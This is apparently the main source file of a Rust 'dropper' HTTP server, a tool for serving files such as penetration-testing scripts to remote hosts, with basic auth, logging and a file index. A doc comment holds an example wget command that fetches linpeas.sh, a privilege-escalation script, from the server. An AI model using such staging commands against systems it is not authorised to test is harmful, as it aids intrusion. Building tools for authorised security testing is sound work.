use std::net::SocketAddr;
use std::path::PathBuf;

use clap::Parser;
use tracing::{info, warn};
use tracing_subscriber::{layer::SubscriberExt, util::SubscriberInitExt};

use dropper::config::{self, Overrides, RefreshPolicy};
use dropper::index::{IndexOptions, IndexStore};
use dropper::routes;
use dropper::state::AppState;

/// Simple file dropper server.
///
/// Every file under the served root is also reachable as /drop/<filename>,
/// e.g. `wget http://<ip>:<port>/drop/linpeas.sh`.
///
/// Basic auth is required by default; set DROP_AUTH="user:pass" or pass
/// --no-auth (not recommended on public networks).
#[derive(Parser, Debug)]
#[command(name = "dropper")]
#[command(version)]
struct Cli {
    /// Root directory to serve (created if missing)
    #[arg(long)]
    dir: Option<PathBuf>,

    /// Address to bind to
    #[arg(long)]
    host: Option<String>,

    /// Port to listen on
    #[arg(long)]
    port: Option<u16>,

    /// Disable authentication for this run
    #[arg(long)]
    no_auth: bool,

    /// When to rebuild the /drop/ index
    #[arg(long, value_enum)]
    refresh: Option<RefreshPolicy>,
}

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    let cli = Cli::parse();

    // Load configuration (embedded defaults -> dropper.toml -> env/.env -> CLI)
    let app_cfg = config::load(&Overrides {
        root: cli.dir,
        host: cli.host,
        port: cli.port,
        no_auth: cli.no_auth,
        refresh: cli.refresh,
    })?;

    // Logging (stdout + daily file rotation)
    std::fs::create_dir_all(&app_cfg.logging.dir).ok();
    let (stdout_nb, stdout_guard) = tracing_appender::non_blocking(std::io::stdout());
    let file_appender = tracing_appender::rolling::daily(&app_cfg.logging.dir, &app_cfg.logging.file_name);
    let (file_nb, file_guard) = tracing_appender::non_blocking(file_appender);
    let env_filter = tracing_subscriber::EnvFilter::try_from_default_env()
        .unwrap_or_else(|_| "info,tower_http=info".into());
    tracing_subscriber::registry()
        .with(env_filter)
        .with(tracing_subscriber::fmt::layer().with_writer(stdout_nb))
        .with(tracing_subscriber::fmt::layer().with_ansi(false).with_writer(file_nb))
        .init();
    // Keep the guards alive so the non-blocking writers flush on exit
    let _log_guards = (stdout_guard, file_guard);

    #[cfg(unix)]
    if app_cfg.server.port < 1024 {
        warn!("Using privileged port {} - may require elevated permissions", app_cfg.server.port);
    }

    let root = &app_cfg.serve.root;
    if !root.exists() {
        info!("Creating root: {}", root.display());
        std::fs::create_dir_all(root)?;
    }
    let root = root.canonicalize()?;

    let credentials = app_cfg.credentials()?;
    match &credentials {
        Some(_) => info!("Basic auth enabled. Set DROP_AUTH=USER:PASS to change credentials."),
        None => warn!("Authentication disabled (--no-auth). Anyone can access files."),
    }

    let index = IndexStore::open(
        root.clone(),
        IndexOptions {
            include_hidden: app_cfg.index.include_hidden,
            excludes: app_cfg.index.excludes.clone(),
        },
    )
    .await?;
    let indexed = index.snapshot().await.len();
    info!(
        files = indexed,
        refresh = app_cfg.index.refresh.as_str(),
        "Dropper serving root: {}",
        root.display()
    );

    let host = app_cfg.server.host.clone();
    let port = app_cfg.server.port;
    let addr: SocketAddr = format!("{}:{}", host, port)
        .parse()
        .map_err(|e| anyhow::anyhow!("invalid listen addr {}:{} - {}", host, port, e))?;

    let state = AppState::new(app_cfg, index, credentials);
    let app = routes::router(state);

    let listener = tokio::net::TcpListener::bind(addr).await?;
    info!("Dropper listening on http://{}", listener.local_addr()?);
    axum::serve(listener, app).with_graceful_shutdown(shutdown_signal()).await?;

    Ok(())
}

async fn shutdown_signal() {
    #[cfg(unix)]
    {
        match tokio::signal::unix::signal(tokio::signal::unix::SignalKind::terminate()) {
            Ok(mut term) => {
                tokio::select! {
                    _ = tokio::signal::ctrl_c() => {},
                    _ = term.recv() => {},
                }
            }
            Err(e) => {
                warn!("Failed to install SIGTERM handler: {}", e);
                let _ = tokio::signal::ctrl_c().await;
            }
        }
    }
    #[cfg(not(unix))]
    {
        let _ = tokio::signal::ctrl_c().await;
    }
    info!("Shutdown signal received. Stopping server...");
}
